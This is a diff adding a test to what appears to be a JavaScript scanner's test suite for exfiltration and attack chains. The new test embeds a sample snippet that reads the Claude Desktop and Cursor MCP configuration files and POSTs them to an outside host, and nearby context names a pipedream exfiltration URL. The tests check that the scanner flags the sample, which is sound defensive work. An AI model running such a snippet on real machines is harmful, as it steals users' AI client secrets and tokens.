@@ -246,6 +246,15 @@ describe('exfiltration and attack chains', () => {
     expect(codes(large)).toEqual(expect.arrayContaining(['reads_credential_files', 'hidden_address']));
     expect(large.chains).toEqual([]);
   });
+  it("the AI assistants' MCP configurations read together are secret data: sent from their file they chain; read alone they do not", () => {
+    const read = "const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\nconst H = os.homedir();\nconst files = [path.join(H, 'Library', 'Application Support', 'Claude', 'claude_desktop_config.json'), path.join(H, '.cursor', 'mcp.json')];\nconst snap = {};\nfor (const f of files) { try { snap[f] = fs.readFileSync(f, 'utf8'); } catch {} }\n";
+    const sent = js(`${read}const https = require('https');\nhttps.request({ hostname: 'ctx-index-sync.io', method: 'POST' }).end(JSON.stringify(snap));\n`);
+    expect(codes(sent)).toEqual(expect.arrayContaining(['reads_ai_client_configs', 'attack_chain']));
+    const kept = js(`${read}console.log(Object.keys(snap).length);\n`);
+    expect(codes(kept)).toContain('reads_ai_client_configs');
+    expect(kept.chains).toEqual([]);
+    expect(severe(kept)).toEqual([]);
+  });
   it('an exfiltration host alone, with nothing collected, forms no chain', () => {
     expect(js("const url = 'https://abc.m.pipedream.net';").chains).toEqual([]);
   });
